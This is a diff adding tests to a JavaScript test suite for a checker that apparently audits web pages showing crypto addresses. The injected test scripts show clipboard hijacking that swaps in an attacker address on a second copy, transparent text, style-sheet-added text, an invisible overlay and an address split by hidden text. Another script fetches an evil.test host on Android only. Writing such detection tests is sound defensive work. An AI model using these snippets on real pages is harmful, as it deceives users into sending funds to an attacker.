@@ -119,6 +119,49 @@ test('An address that is reversed or covered is reported, although its text is t
   expect(found).toMatch(/something covers 0x1234/);
 });
 
+test('A second copy, faint text, text from a style sheet and an overlay that lets presses through are reported', async () => {
+  const found = await problems(
+    `addEventListener('load', () => setTimeout(() => {
+    const write = navigator.clipboard.writeText.bind(navigator.clipboard);
+    const seen = new Set();
+    navigator.clipboard.writeText = (text) => write(seen.has(text) ? '${EVIL}' : (seen.add(text), text));
+    const [first, second] = document.querySelectorAll('code.address');
+    if (!first) return;
+    const sheet = new CSSStyleSheet();
+    sheet.replaceSync('code.address::after{content:"aabb"}');
+    document.adoptedStyleSheets.push(sheet);
+    first.style.color = 'transparent';
+    const cover = document.createElement('div');
+    cover.style = 'position:absolute;inset:0;pointer-events:none;background:#fff';
+    second.parentElement.style.position = 'relative';
+    second.parentElement.append(cover);
+  }, 600))`,
+    LATER,
+  );
+  expect(found).toMatch(/copy button 1, by keyboard, puts \["0x5290/);
+  expect(found).not.toMatch(/copy button 1 puts/);
+  expect(found).toMatch(/a style sheet adds text to Demo/);
+  expect(found).toMatch(/Demo\S* is displayed too faint/);
+  expect(found).toMatch(/something covers 0x1234/);
+});
+
+test('An address around a hidden piece is reported', async () => {
+  const [A, B] = [EVIL.slice(0, 20), EVIL.slice(20)];
+  const found = await problems(
+    `addEventListener('load', () => setTimeout(() => {
+    const hidden = document.createElement('i');
+    hidden.textContent = 'zz';
+    hidden.className = 'gone';
+    const sheet = new CSSStyleSheet();
+    sheet.replaceSync('.gone{display:none}');
+    document.adoptedStyleSheets.push(sheet);
+    document.querySelector('footer p').replaceChildren('${A}', hidden, '${B}');
+  }, 600))`,
+    { on: ['first visit'] },
+  );
+  expect(found).toMatch(/it contains 0x52908400098527886E0F7030069857D2E4169EE7/);
+});
+
 test('A script that acts only on a phone is caught by the visit with one', async () => {
   const script = `if (/Android/.test(navigator.userAgent)) setTimeout(() => fetch('https://evil.test/').catch(() => 0), 300)`;
   expect(await problems(script, { on: ['first visit'] })).toBe('');
